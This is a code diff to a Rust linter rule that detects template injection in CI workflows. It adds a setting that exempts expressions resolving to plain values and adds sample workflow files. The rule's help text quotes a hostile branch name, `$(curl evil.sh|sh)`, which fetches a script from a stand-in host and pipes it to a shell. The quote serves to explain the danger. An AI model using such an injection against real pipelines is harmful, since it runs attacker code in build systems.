@@ -1,14 +1,15 @@
 //! `template-injection`
 
-use super::{ANYWHERE, Check, Example, Findings, Refused, Rule, Scope};
+use super::{ANYWHERE, Check, Example, Findings, Loosens, Refused, Rule, Scope};
 use crate::finding::Severity;
-use crate::origin::Origin;
+use crate::origin::{At, Origin};
 use crate::pipeline::Part;
 use crate::pipeline::step::{Kind, Run};
 use crate::pipeline::uses::Used;
 use crate::source::FaultKind;
 use crate::view::actions::is;
-use crate::view::scope::Held;
+use crate::view::plain;
+use crate::view::scope::{Held, Spot};
 use crate::view::untrusted;
 
 /// Inputs of actions that are run as code: as commands, as scripts, or as what an interpreter evaluates. Read from the actions' own
@@ -30,12 +31,24 @@ const CODE: &[(&str, &str)] = &[
     ("skitionek/notify-microsoft-teams", "with.overwrite"),
 ];
 
+const PLAIN: &str = "on: { push: {} }
+env: { LEVEL: debug }
+jobs:
+  test:
+    runs-on: ubuntu-24.04
+    strategy: { matrix: { version: ['3.13', '3.14'] } }
+    steps:
+      - run: make ${{ env.LEVEL }} ${{ matrix.version }} ${{ github.sha }} ${{ github.event.number && 'one' || 'none' }}
+";
+
 pub(super) static RULE: Rule = Rule {
     id: "template-injection",
     summary: "a value becomes part of a program's text",
     why: "An expression is replaced before the shell reads the script, so a branch called `$(curl evil.sh|sh)` is a command. \
           A value that comes in through the environment stays a value: write `env.TITLE = 'Branch` and `\"$TITLE\"`.",
     severity: Severity::Error,
+    settings: r#"plain | Bool | doc "Whether to tell, in files of YAML, expressions as well that come out as a number, a commit or what is written there." | default = false,"#,
+    loosens: &[("plain", Loosens::Less)],
     refused: &[Refused { kind: FaultKind::Expression, path: ANYWHERE }],
     check: Check::Project(check),
     examples: &[
@@ -55,6 +68,19 @@ pub(super) static RULE: Rule = Rule {
         Example::bad(&[("ci", r#"{ jobs.test.steps = [{ uses = "mikefarah/yq", with.cmd = [".a = ", 'Branch] }] }"#)]),
         Example::good(&[("ci", r#"{ jobs.test = { matrix.shell = ["bash", "sh"], defaults.shell = 'Matrix "shell" } }"#)]),
         Example::good(&[("ci", r#"{ jobs.test.steps = [{ run = "echo \"$HEAD\"", env.HEAD = 'Branch }] }"#)]),
+        Example::good(&[(".github/workflows/ci.yml", PLAIN)]),
+        Example::bad(&[(".github/workflows/ci.yml", PLAIN)]).policy("{ rules.template-injection.settings.plain = true }"),
+        Example::bad(&[(
+            ".github/workflows/ci.yml",
+            "on: { push: {} }
+env: { NAME: '${{ github.ref_name }}' }
+jobs:
+  test:
+    runs-on: ubuntu-24.04
+    steps:
+      - run: make ${{ env.NAME }}
+",
+        )]),
         Example::good(&[(
             "ci",
             r#"{ jobs.test.steps = [{ uses = "actions/github-script", with.script = "console.log(process.env.HEAD)", env.HEAD = 'Branch }] }"#,
@@ -64,10 +90,15 @@ pub(super) static RULE: Rule = Rule {
 };
 
 fn check(scope: &Scope<'_>, findings: &mut Findings) {
+    let every = scope.fills_in() || scope.settings.flag("plain");
     for (pipeline, job, step) in scope.steps() {
         if let Kind::Run(run) = &step.kind.value
             && run.script.contains("${{")
         {
+            let spot = Spot { pipeline, job: Some(job), step: Some(step) };
+            if !every && run.said.as_deref().is_some_and(|said| plain::is_plain(scope.project, spot, said)) {
+                continue;
+            }
             let mut places = expressions(run);
             let first = places.next().unwrap_or(run.script.origin);
             places
@@ -75,6 +106,7 @@ fn check(scope: &Scope<'_>, findings: &mut Findings) {
                     findings.report(pipeline.step_identity(job, step), first, "the commands hold an expression").key("run"),
                     |said, origin| said.related(origin, "and here"),
                 )
+                .decided(scope.settings, "plain")
                 .help("bind the value under `env` and use the variable between double quotes");
         }
     }
@@ -95,11 +127,19 @@ fn check(scope: &Scope<'_>, findings: &mut Findings) {
                 .help("write the command line without it; what outsiders write reaches a program through its environment");
             continue;
         }
-        for part in held.value.parts.iter().filter(|part| code && matches!(part.value, Part::Reference(_))) {
-            findings.report(held.spot.identity(), part.origin, "this input is run as code").key(held.field.clone()).mend(
-                "write a reference such as 'Branch or 'Input \"name\", and hand it over through `env`",
-                "bind the value under `env` and use the variable between double quotes",
-            );
+        let told = |part: &&At<Part>| {
+            let put_in = code && matches!(part.value, Part::Reference(_));
+            put_in && (every || !plain::is_part_plain(scope.project, held.spot, part))
+        };
+        for part in held.value.parts.iter().filter(told) {
+            findings
+                .report(held.spot.identity(), part.origin, "this input is run as code")
+                .key(held.field.clone())
+                .decided(scope.settings, "plain")
+                .mend(
+                    "write a reference such as 'Branch or 'Input \"name\", and hand it over through `env`",
+                    "bind the value under `env` and use the variable between double quotes",
+                );
         }
     }
 }
